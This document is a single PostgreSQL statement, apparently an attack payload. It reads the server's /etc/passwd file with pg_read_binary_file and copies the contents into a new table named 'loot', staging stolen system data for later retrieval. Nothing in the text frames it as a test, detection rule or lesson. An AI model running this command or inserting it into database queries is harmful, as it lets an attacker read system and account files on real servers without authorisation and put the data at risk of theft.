CREATE TABLE loot AS SELECT pg_read_binary_file('/etc/passwd') AS x;
